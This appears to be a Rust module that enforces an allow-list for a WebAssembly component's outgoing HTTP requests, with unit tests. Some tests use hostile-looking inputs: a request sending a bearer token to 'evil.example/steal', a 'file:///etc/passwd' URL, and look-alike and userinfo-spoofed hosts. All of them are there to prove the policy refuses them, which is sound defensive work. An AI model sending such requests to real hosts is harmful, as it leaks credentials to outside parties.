//! Outgoing-HTTP policy: which origins the component may reach.
//!
//! Every request the component sends through `wasi:http/outgoing-handler` goes
//! through [`HttpPolicy::send_request`]. A request whose scheme is not `http`
//! or `https`, whose authority carries userinfo, or whose
//! `(scheme, host, port)` is not allow-listed is refused with
//! `error-code::HTTP-request-denied` before any DNS lookup or connection: an
//! `https` entry never allows plain `http` to the same host and port, nor the
//! other way round. Request headers and bodies are never logged, and URL
//! userinfo never appears in an error message.

use std::future::Future;
use std::net::Ipv6Addr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use anyhow::{anyhow, bail};
use http::uri::{Authority, Scheme};
use http_body_util::BodyExt;
use wasmtime_wasi_http::{RequestOptions, WasiBody, WasiHttpHooks};

use super::redact::redact_userinfo;

/// Canonical `scheme://host:port` origins (port explicit, or the scheme's
/// default) for a list of `http`/`https` URLs, e.g.
/// `https://api.chipipay.com/v1` gives `https://api.chipipay.com:443` and
/// `http://127.0.0.1:8080/rpc` gives `http://127.0.0.1:8080`. Userinfo, path
/// and query are ignored; hosts are lowercased and IPv6 literals kept in
/// brackets (`http://[::1]:8080`). Each result allows its own scheme only.
///
/// Errors never echo userinfo (`user:password@`) of the URLs.
pub fn authorities_from_urls(urls: &[&str]) -> anyhow::Result<Vec<String>> {
    let mut out: Vec<String> = Vec::with_capacity(urls.len());
    for raw in urls {
        let origin = origin_from_url(raw)?.to_string();
        if !out.contains(&origin) {
            out.push(origin);
        }
    }
    Ok(out)
}

/// Scheme of an allowed origin.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum HttpScheme {
    Http,
    Https,
}

impl HttpScheme {
    fn parse(scheme: &str) -> Option<Self> {
        if scheme.eq_ignore_ascii_case("https") {
            Some(Self::Https)
        } else if scheme.eq_ignore_ascii_case("http") {
            Some(Self::Http)
        } else {
            None
        }
    }

    fn of(scheme: &Scheme) -> Option<Self> {
        Self::parse(scheme.as_str())
    }

    fn default_port(self) -> u16 {
        match self {
            Self::Http => 80,
            Self::Https => 443,
        }
    }

    fn as_str(self) -> &'static str {
        match self {
            Self::Http => "http",
            Self::Https => "https",
        }
    }
}

/// One allow-list entry: a scheme, a canonical host and a port.
#[derive(Clone, Debug, PartialEq, Eq)]
struct Origin {
    scheme: HttpScheme,
    host: String,
    port: u16,
}

impl std::fmt::Display for Origin {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}://{}:{}", self.scheme.as_str(), self.host, self.port)
    }
}

/// The origin of an `http(s)` URL; its userinfo, if any, is ignored (and
/// never shown in errors).
fn origin_from_url(raw: &str) -> anyhow::Result<Origin> {
    let shown = || redact_userinfo(raw);
    let url = url::Url::parse(raw).map_err(|err| anyhow!("invalid URL `{}`: {err}", shown()))?;
    let scheme = HttpScheme::parse(url.scheme()).ok_or_else(|| {
        if url.cannot_be_a_base() {
            // `user:password@host` parses as scheme `user`: never echo it.
            anyhow!("`{}` is not an http or https URL", shown())
        } else {
            anyhow!(
                "URL `{}` must use http or https, not `{}`",
                shown(),
                url.scheme()
            )
        }
    })?;
    let host = match url.host() {
        Some(url::Host::Domain(domain)) => domain.to_ascii_lowercase(),
        Some(url::Host::Ipv4(addr)) => addr.to_string(),
        Some(url::Host::Ipv6(addr)) => format!("[{addr}]"),
        None => bail!("URL `{}` has no host", shown()),
    };
    let port = url.port().unwrap_or(scheme.default_port());
    Ok(Origin { scheme, host, port })
}

/// Lowercase a host and canonicalise IPv6 literals (`[0:0::1]` -> `[::1]`).
fn canonical_host(host: &str) -> String {
    if let Some(inner) = host.strip_prefix('[').and_then(|h| h.strip_suffix(']')) {
        if let Ok(addr) = inner.parse::<Ipv6Addr>() {
            return format!("[{addr}]");
        }
    }
    host.to_ascii_lowercase()
}

/// The explicit port of a `host[:port]` authority (no userinfo), checked
/// strictly: `http::uri::Authority::port` silently drops out-of-range ports.
fn explicit_port(authority: &str) -> Result<Option<u16>, ()> {
    let rest = if authority.starts_with('[') {
        let end = authority.find(']').ok_or(())?;
        &authority[end + 1..]
    } else {
        authority.find(':').map_or("", |i| &authority[i..])
    };
    if rest.is_empty() {
        return Ok(None);
    }
    let digits = rest.strip_prefix(':').ok_or(())?;
    if digits.is_empty() || !digits.bytes().all(|b| b.is_ascii_digit()) {
        return Err(());
    }
    digits.parse::<u16>().map(Some).map_err(|_| ())
}

/// Parsed allow-list of `(scheme, host, port)` origins.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct AllowList {
    entries: Vec<Origin>,
}

/// Why a request was refused (kept for tests and error messages; carries no
/// request data beyond the origin).
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum Denial {
    /// Scheme other than `http` / `https`.
    Scheme,
    /// No authority, or one that cannot be parsed.
    NoAuthority,
    /// Authority with `user@`.
    Userinfo,
    /// `scheme://host:port` not allow-listed.
    NotAllowed(String),
}

impl AllowList {
    /// Parse entries. Each allows exactly one `(scheme, host, port)`:
    ///
    /// - `https://api.chipipay.com:443`, `http://127.0.0.1:8080`,
    ///   `http://[::1]:5050`, or a full `http(s)://` URL (its explicit or
    ///   default port; path and query ignored);
    /// - a bare `host:port` or `host` means `https` only (`host` alone: port
    ///   443).
    ///
    /// Entries with userinfo, other schemes or invalid ports are refused;
    /// errors never echo userinfo.
    pub(crate) fn parse<S: AsRef<str>>(entries: &[S]) -> anyhow::Result<Self> {
        let mut parsed = Vec::with_capacity(entries.len());
        for raw in entries {
            let entry = parse_entry(raw.as_ref())?;
            if !parsed.contains(&entry) {
                parsed.push(entry);
            }
        }
        Ok(Self { entries: parsed })
    }

    /// The canonical `scheme://host:port` of each entry.
    #[cfg(test)]
    pub(crate) fn origins(&self) -> Vec<String> {
        self.entries.iter().map(Origin::to_string).collect()
    }

    /// Number of distinct entries.
    #[cfg(test)]
    pub(crate) fn len(&self) -> usize {
        self.entries.len()
    }

    /// Decide whether a request to `uri` may be sent.
    pub(crate) fn check(&self, uri: &http::Uri) -> Result<(), Denial> {
        let scheme = uri
            .scheme()
            .and_then(HttpScheme::of)
            .ok_or(Denial::Scheme)?;
        let authority = uri.authority().ok_or(Denial::NoAuthority)?;
        if authority.as_str().contains('@') {
            return Err(Denial::Userinfo);
        }
        if authority.host().is_empty() {
            return Err(Denial::NoAuthority);
        }
        let port = explicit_port(authority.as_str())
            .map_err(|()| Denial::NoAuthority)?
            .unwrap_or(scheme.default_port());
        let wanted = Origin {
            scheme,
            host: canonical_host(authority.host()),
            port,
        };
        if self.entries.contains(&wanted) {
            Ok(())
        } else {
            Err(Denial::NotAllowed(wanted.to_string()))
        }
    }
}

/// One allow-list entry (see [`AllowList::parse`]), canonicalised. This is
/// also how the CLI reads `--allow-host`.
fn parse_entry(raw: &str) -> anyhow::Result<Origin> {
    let raw = raw.trim();
    if raw.contains('@') {
        bail!(
            "allowed authority `{}` must not contain userinfo",
            redact_userinfo(raw)
        );
    }
    if raw.contains("://") {
        return origin_from_url(raw);
    }
    let authority: Authority = raw
        .parse()
        .map_err(|err| anyhow!("invalid allowed authority `{raw}`: {err}"))?;
    let host = authority.host();
    if host.is_empty() {
        bail!("allowed authority `{raw}` has no host");
    }
    let port = explicit_port(authority.as_str())
        .map_err(|()| anyhow!("invalid port in allowed authority `{raw}`"))?;
    Ok(Origin {
        scheme: HttpScheme::Https,
        host: canonical_host(host),
        port: port.unwrap_or(HttpScheme::Https.default_port()),
    })
}

/// The canonical `scheme://host:port` form of one allow-list entry (a bare
/// `host:port` becomes `https://host:port`).
pub fn canonical_entry(raw: &str) -> anyhow::Result<String> {
    parse_entry(raw).map(|origin| origin.to_string())
}

/// Shared count of refused requests.
#[derive(Clone, Debug, Default)]
pub(crate) struct DeniedCounter(Arc<AtomicU64>);

impl DeniedCounter {
    pub(crate) fn increment(&self) {
        self.0.fetch_add(1, Ordering::Relaxed);
    }

    pub(crate) fn get(&self) -> u64 {
        self.0.load(Ordering::Relaxed)
    }
}

/// The `wasi:http` hooks of one store: enforces the allow-list, then sends
/// allowed requests with wasmtime-wasi-http's default client.
pub(crate) struct HttpPolicy {
    allow: Arc<AllowList>,
    denied: DeniedCounter,
}

impl HttpPolicy {
    pub(crate) fn new(allow: Arc<AllowList>, denied: DeniedCounter) -> Self {
        Self { allow, denied }
    }
}

type SendFuture = Box<
    dyn Future<
            Output = wasmtime_wasi_http::Result<(
                http::Response<WasiBody>,
                Box<dyn Future<Output = wasmtime_wasi_http::Result<()>> + Send>,
            )>,
        > + Send,
>;

impl WasiHttpHooks for HttpPolicy {
    /// Accept every scheme here so that `send_request` refuses (and counts)
    /// non-HTTP schemes with `HTTP-request-denied`.
    fn is_supported_scheme(&mut self, _scheme: &Scheme) -> bool {
        true
    }

    fn send_request(
        &mut self,
        request: http::Request<WasiBody>,
        options: Option<RequestOptions>,
        _fut: Box<dyn Future<Output = wasmtime_wasi_http::Result<()>> + Send>,
    ) -> SendFuture {
        if self.allow.check(request.uri()).is_err() {
            self.denied.increment();
            return Box::new(async { Err(wasmtime_wasi_http::Error::HttpRequestDenied) });
        }
        Box::new(async move {
            let (response, io) = wasmtime_wasi_http::default_send_request(request, options).await?;
            Ok((
                response.map(BodyExt::boxed_unsync),
                Box::new(io) as Box<dyn Future<Output = wasmtime_wasi_http::Result<()>> + Send>,
            ))
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn uri(s: &str) -> http::Uri {
        s.parse().unwrap()
    }

    fn list(entries: &[&str]) -> AllowList {
        AllowList::parse(entries).unwrap()
    }

    #[test]
    fn urls_to_origins() {
        let got = authorities_from_urls(&[
            "https://api.chipipay.com/v1",
            "http://127.0.0.1:8080/rpc",
            "HTTPS://API.ChipiPay.com:8443/x?y=1",
            "http://[::1]:5050/",
            "http://[0:0::1]/",
            "https://user:pw@rpc.example.org/",
            "https://api.chipipay.com/v2", // duplicate origin
            "http://api.chipipay.com/",    // same host, other scheme: distinct
            "https://127.0.0.1:8080/",     // same host and port, other scheme
        ])
        .unwrap();
        assert_eq!(
            got,
            [
                "https://api.chipipay.com:443",
                "http://127.0.0.1:8080",
                "https://api.chipipay.com:8443",
                "http://[::1]:5050",
                "http://[::1]:80",
                "https://rpc.example.org:443",
                "http://api.chipipay.com:80",
                "https://127.0.0.1:8080",
            ]
        );
        // What authorities_from_urls returns parses back to the same thing.
        assert_eq!(
            list(&got.iter().map(String::as_str).collect::<Vec<_>>()).origins(),
            got
        );
    }

    #[test]
    fn urls_with_bad_scheme_or_no_host_fail() {
        assert!(authorities_from_urls(&["ftp://example.com/"]).is_err());
        assert!(authorities_from_urls(&["file:///etc/passwd"]).is_err());
        assert!(authorities_from_urls(&["not a url"]).is_err());
        assert!(authorities_from_urls(&["api.chipipay.com"]).is_err());
        assert!(authorities_from_urls(&["https://a.com:99999/"]).is_err());
        assert!(authorities_from_urls(&[]).unwrap().is_empty());
    }

    #[test]
    fn allow_list_parsing() {
        assert_eq!(
            list(&["a.com:1", "A.COM:1", "https://a.com:1/", "HTTPS://a.com:1"]).len(),
            1
        );
        assert_eq!(list(&["a.com:1", "http://a.com:1"]).len(), 2);
        assert_eq!(
            list(&[
                "a.com",
                "[::1]:8080",
                "http://localhost",
                "https://[0::1]:8080/x"
            ])
            .origins(),
            [
                "https://a.com:443",
                "https://[::1]:8080",
                "http://localhost:80",
            ]
        );
        assert!(AllowList::parse(&["user@a.com:443"]).is_err());
        assert!(AllowList::parse(&["https://user@a.com:443"]).is_err());
        assert!(AllowList::parse(&["https://user:pw@a.com/"]).is_err());
        assert!(AllowList::parse(&["a.com:65536"]).is_err());
        assert!(AllowList::parse(&["a.com:99999"]).is_err());
        assert!(AllowList::parse(&["https://a.com:65536"]).is_err());
        assert!(AllowList::parse(&["a.com:"]).is_err());
        assert!(AllowList::parse(&["[::1]:x"]).is_err());
        assert!(AllowList::parse(&["a.com:port"]).is_err());
        assert!(AllowList::parse(&[":443"]).is_err());
        assert!(AllowList::parse(&["ftp://a.com/"]).is_err());
        assert!(AllowList::parse(&["ws://a.com:443"]).is_err());
        assert!(AllowList::parse(&["a.com/path"]).is_err());
        assert!(AllowList::parse::<&str>(&[]).unwrap().len() == 0);
    }

    #[test]
    fn canonical_entries() {
        assert_eq!(
            canonical_entry("RPC.Example.org:8545").unwrap(),
            "https://rpc.example.org:8545"
        );
        assert_eq!(
            canonical_entry("rpc.example.org").unwrap(),
            "https://rpc.example.org:443"
        );
        assert_eq!(
            canonical_entry("http://127.0.0.1:5050").unwrap(),
            "http://127.0.0.1:5050"
        );
        assert_eq!(
            canonical_entry(" https://[0:0::1]:1/ ").unwrap(),
            "https://[::1]:1"
        );
        assert!(canonical_entry("gopher://a.com:70").is_err());
    }

    #[test]
    fn matches_scheme_host_and_port() {
        let allow = list(&["http://127.0.0.1:8080", "api.chipipay.com:443"]);
        assert_eq!(allow.check(&uri("http://127.0.0.1:8080/x")), Ok(()));
        assert_eq!(allow.check(&uri("https://api.chipipay.com/v1/x")), Ok(()));
        assert_eq!(allow.check(&uri("https://api.chipipay.com:443/")), Ok(()));
        // Wrong port, including the other scheme's default.
        assert!(matches!(
            allow.check(&uri("http://127.0.0.1:8081/")),
            Err(Denial::NotAllowed(a)) if a == "http://127.0.0.1:8081"
        ));
        assert!(allow.check(&uri("http://127.0.0.1/")).is_err());
        assert!(allow.check(&uri("http://api.chipipay.com/")).is_err());
        // Other hosts, look-alikes and suffixes.
        assert!(allow.check(&uri("https://evil.com/")).is_err());
        assert!(allow
            .check(&uri("https://api.chipipay.com.evil.com/"))
            .is_err());
        assert!(allow.check(&uri("https://xapi.chipipay.com/")).is_err());
        assert!(allow.check(&uri("https://api.chipipay.com./")).is_err());
        assert!(allow.check(&uri("http://localhost:8080/")).is_err());
    }

    #[test]
    fn https_never_allows_http_and_vice_versa() {
        // From the configured URLs, as the CLI and the e2e harness build them.
        let origins =
            authorities_from_urls(&["https://api.chipipay.com/v1", "http://127.0.0.1:5050/rpc"])
                .unwrap();
        let allow = AllowList::parse(&origins).unwrap();
        assert_eq!(allow.check(&uri("https://api.chipipay.com/v1/x")), Ok(()));
        assert_eq!(
            allow.check(&uri("http://api.chipipay.com:443/v1/x")),
            Err(Denial::NotAllowed("http://api.chipipay.com:443".into()))
        );
        assert_eq!(allow.check(&uri("http://127.0.0.1:5050/rpc")), Ok(()));
        assert_eq!(
            allow.check(&uri("https://127.0.0.1:5050/rpc")),
            Err(Denial::NotAllowed("https://127.0.0.1:5050".into()))
        );
        // A bare host:port is https only.
        let allow = list(&["rpc.example.org:8545", "localhost"]);
        assert_eq!(allow.check(&uri("https://rpc.example.org:8545/")), Ok(()));
        assert!(allow.check(&uri("http://rpc.example.org:8545/")).is_err());
        assert_eq!(allow.check(&uri("https://localhost/")), Ok(()));
        assert!(allow.check(&uri("http://localhost/")).is_err());
        assert!(allow.check(&uri("http://localhost:443/")).is_err());
        // Explicit http entries allow http only.
        let allow = list(&["http://rpc.example.org:8545"]);
        assert_eq!(allow.check(&uri("http://rpc.example.org:8545/")), Ok(()));
        assert!(allow.check(&uri("https://rpc.example.org:8545/")).is_err());
    }

    #[test]
    fn explicit_ports_are_parsed_strictly() {
        assert_eq!(explicit_port("a.com"), Ok(None));
        assert_eq!(explicit_port("a.com:8080"), Ok(Some(8080)));
        assert_eq!(explicit_port("[::1]"), Ok(None));
        assert_eq!(explicit_port("[::1]:1"), Ok(Some(1)));
        assert_eq!(explicit_port("a.com:65536"), Err(()));
        assert_eq!(explicit_port("a.com:+1"), Err(()));
        assert_eq!(explicit_port("a.com:"), Err(()));
        assert_eq!(explicit_port("[::1]x"), Err(()));
        let allow = list(&["http://a.com:80"]);
        // An out-of-range port must not fall back to the default port.
        if let Ok(uri) = "http://a.com:65616/".parse::<http::Uri>() {
            assert_eq!(allow.check(&uri), Err(Denial::NoAuthority));
        }
    }

    #[test]
    fn matching_is_case_insensitive() {
        let allow = list(&["API.ChipiPay.com:443"]);
        assert_eq!(allow.check(&uri("https://api.chipipay.com/")), Ok(()));
        assert_eq!(allow.check(&uri("https://API.CHIPIPAY.COM/")), Ok(()));
        assert_eq!(allow.check(&uri("HTTPS://api.chipipay.com/")), Ok(()));
    }

    #[test]
    fn entry_without_port_uses_its_schemes_default() {
        let allow = list(&["http://localhost"]);
        assert_eq!(allow.check(&uri("http://localhost/")), Ok(()));
        assert_eq!(allow.check(&uri("http://localhost:80/")), Ok(()));
        assert!(allow.check(&uri("https://localhost/")).is_err());
        assert!(allow.check(&uri("http://localhost:443/")).is_err());
        assert!(allow.check(&uri("http://localhost:8080/")).is_err());
    }

    #[test]
    fn ipv6_literals() {
        let allow = list(&["http://[::1]:5050", "[2001:DB8::1]:443"]);
        assert_eq!(allow.check(&uri("http://[::1]:5050/")), Ok(()));
        assert_eq!(allow.check(&uri("http://[0:0:0:0:0:0:0:1]:5050/")), Ok(()));
        assert_eq!(allow.check(&uri("https://[2001:db8::1]/")), Ok(()));
        assert!(allow.check(&uri("https://[::1]:5050/")).is_err());
        assert!(allow.check(&uri("http://[::1]:5051/")).is_err());
        assert!(allow.check(&uri("http://[::2]:5050/")).is_err());
        assert!(allow.check(&uri("http://127.0.0.1:5050/")).is_err());
    }

    #[test]
    fn userinfo_and_bad_schemes_are_denied() {
        let allow = list(&["http://127.0.0.1:8080", "a.com:443"]);
        assert_eq!(
            allow.check(&uri("http://user@127.0.0.1:8080/")),
            Err(Denial::Userinfo)
        );
        // `a.com:443@evil.com` is evil.com with userinfo; never a.com.
        assert!(allow.check(&uri("https://a.com:443@evil.com/")).is_err());
        assert_eq!(allow.check(&uri("ftp://a.com:443/")), Err(Denial::Scheme));
        assert_eq!(allow.check(&uri("/relative")), Err(Denial::Scheme));
        assert_eq!(allow.check(&uri("ws://a.com:443/")), Err(Denial::Scheme));
    }

    #[test]
    fn errors_never_show_userinfo() {
        let secret = "hunter2-Pa55";
        let mut messages = Vec::new();
        for bad in [
            format!("https://alice:{secret}@"),
            format!("ftp://alice:{secret}@files.example/"),
            format!("https://alice:{secret}@a.com:99999/"),
            format!("https://alice:{secret}/x@a.com/"),
            format!("alice:{secret}@a.com:443"),
            format!("not a url alice:{secret}@x"),
            format!("mailto:alice:{secret}@example.com"),
        ] {
            if let Err(err) = authorities_from_urls(&[&bad]) {
                messages.push(format!("{err:#} / {err:?}"));
            }
            let err = AllowList::parse(&[&bad]).unwrap_err();
            messages.push(format!("{err:#} / {err:?}"));
            let err = canonical_entry(&bad).unwrap_err();
            messages.push(format!("{err:#}"));
        }
        assert!(messages.len() >= 20, "{messages:?}");
        for message in &messages {
            assert!(!message.contains(secret), "{message}");
            assert!(!message.contains("alice"), "{message}");
        }
        // A URL whose only problem is its userinfo is accepted by
        // authorities_from_urls (userinfo ignored), but never shown.
        let ok = authorities_from_urls(&[&format!("https://alice:{secret}@a.com/")]).unwrap();
        assert_eq!(ok, ["https://a.com:443"]);
    }

    #[test]
    fn empty_allow_list_denies_everything() {
        let allow = AllowList::default();
        assert!(allow.check(&uri("http://127.0.0.1:8080/")).is_err());
    }

    #[tokio::test]
    async fn hook_refuses_without_connecting_and_counts() {
        use http_body_util::BodyExt as _;
        let denied = DeniedCounter::default();
        let mut policy = HttpPolicy::new(Arc::new(list(&["http://127.0.0.1:1"])), denied.clone());
        let body = || {
            http_body_util::Empty::<bytes::Bytes>::new()
                .map_err(|never| match never {})
                .boxed_unsync()
        };
        let request = http::Request::builder()
            .uri("https://evil.example:443/steal")
            .header("authorization", "Bearer secret")
            .body(body())
            .unwrap();
        let fut = policy.send_request(request, None, Box::new(async { Ok(()) }));
        let result = std::pin::Pin::from(fut).await;
        assert!(matches!(
            result,
            Err(wasmtime_wasi_http::Error::HttpRequestDenied)
        ));
        assert_eq!(denied.get(), 1);
        let request = http::Request::builder()
            .uri("gopher://127.0.0.1:1/")
            .body(body())
            .unwrap();
        let fut = policy.send_request(request, None, Box::new(async { Ok(()) }));
        assert!(std::pin::Pin::from(fut).await.is_err());
        assert_eq!(denied.get(), 2);
        assert!(policy.is_supported_scheme(&Scheme::HTTP));
    }
}
